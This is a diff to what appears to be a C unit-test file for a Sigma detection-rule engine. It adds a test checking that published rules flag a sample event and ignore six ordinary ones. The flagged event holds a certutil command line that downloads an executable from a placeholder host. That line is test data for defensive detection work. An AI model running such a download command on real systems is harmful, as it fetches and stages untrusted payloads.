@@ -337,6 +337,39 @@ every_row_of_the_table_is_understood(void **state)
     field_table_destroy(&fields);
 }
 
+/* All published rules: what is for an event finds it, and ordinary events meet none of the
+ * thousands that are not for them. */
+static void
+published_rules_find_what_they_are_for_and_nothing_else(void **state)
+{
+    static const char certutil[] =
+        "{\"event_type\":\"process_started\"," SYSMON ",\"event.code\":\"1\","
+        "\"process.executable\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
+        "\"winlog.event_data.OriginalFileName\":\"CertUtil.exe\","
+        "\"process.command_line\":\"certutil /urlcache -f http://192.0.2.1/a.exe a.exe\"}";
+    static const char *const ordinary[] = {
+        "{\"event_type\":\"user_deleted\",\"description\":\"delete, erase, format\"}",
+        "{\"event_type\":\"log\",\"raw_log\":\"a line of no program\"}",
+        "{\"event_type\":\"login_success\",\"source_ip\":\"192.0.2.1\",\"username\":\"bob\"}",
+        "{\"event_type\":\"login_success\"," CHANNEL("Security") ",\"event.code\":\"4689\"}",
+        "{\"event_type\":\"connection\",\"observer.product\":\"asa\",\"destination.port\":443}",
+        "{\"event_type\":\"sshd\",\"raw_log\":\"Accepted publickey for bob\"," SSHD "}",
+    };
+    struct err err = { "" };
+    struct ruleset *rules = ruleset_load("../shared/corpora/sigma/rules", &err);
+
+    (void)state;
+    if (rules == NULL) {
+        print_message("%s\n", err.text);
+        skip();
+    }
+    assert_true(match_case_count(rules, certutil) >= 2);
+    for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++)
+        if (match_case_count(rules, ordinary[i]) != 0)
+            fail_msg("%s meets %d rules", ordinary[i], match_case_count(rules, ordinary[i]));
+    ruleset_destroy(&rules);
+}
+
 int
 main(void)
 {
@@ -352,6 +385,7 @@ main(void)
         cmocka_unit_test(a_logsource_may_be_given_for_all_events),
         cmocka_unit_test(very_many_logsources_keep_the_answers_right),
         cmocka_unit_test(every_row_of_the_table_is_understood),
+        cmocka_unit_test(published_rules_find_what_they_are_for_and_nothing_else),
     };
     struct err err = { "" };
 
